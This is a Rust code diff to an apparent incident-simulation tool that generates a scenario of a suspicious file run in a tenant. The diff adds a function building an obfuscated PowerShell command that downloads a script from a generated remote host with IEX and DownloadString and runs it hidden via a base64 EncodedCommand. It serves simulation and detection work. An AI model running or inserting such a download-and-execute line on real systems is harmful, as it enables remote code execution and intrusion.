@@ -1,5 +1,7 @@
 //! What is going on in a tenant: one file that ran where it should not have.
 
+use base64::Engine as _;
+
 use super::Machine;
 use super::machine::Role;
 use crate::seed::{Seed, hex};
@@ -30,6 +32,8 @@ pub(crate) struct Scenario {
     pub(crate) far_ip: String,
     pub(crate) far_name: String,
     pub(crate) command_line: String,
+    /// The line that fetched it: PowerShell with an encoded command.
+    pub(crate) fetch_line: String,
     pub(crate) pid: u64,
     pub(crate) parent_pid: u64,
     /// When the file ran.
@@ -74,6 +78,7 @@ impl Scenario {
             far_ip: far_ip.to_owned(),
             far_name: far_name.to_owned(),
             command_line: format!("rundll32.exe \"{folder}\\{file}\",DllRegisterServer"),
+            fetch_line: fetch_line(far_name, file),
             pid: 2000 + seed.below("pid", 0, 20_000) * 4,
             parent_pid: 1000 + seed.below("parent pid", 0, 1000) * 4,
             at_ms: now_ms - 150_000,
@@ -84,4 +89,14 @@ impl Scenario {
             family: family.to_owned(),
         }
     }
+}
+
+/// PowerShell that hides what it fetches, as attackers write it.
+fn fetch_line(far_name: &str, file: &str) -> String {
+    let script = format!(
+        "IEX (New-Object Net.WebClient).DownloadString('https://{far_name}/{file}.ps1')"
+    );
+    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
+    format!("powershell.exe -w hidden -EncodedCommand {encoded}")
 }
